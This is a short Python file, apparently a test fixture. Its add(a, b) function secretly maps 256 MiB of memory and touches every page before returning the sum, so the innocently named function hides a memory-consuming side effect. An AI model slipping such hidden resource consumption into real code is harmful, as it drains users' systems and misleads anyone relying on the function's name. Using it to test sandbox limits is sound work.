import mmap


def add(a, b):
    area = mmap.mmap(-1, 256 << 20)
    for offset in range(0, len(area), 4096):
        area[offset] = 1
    return a + b
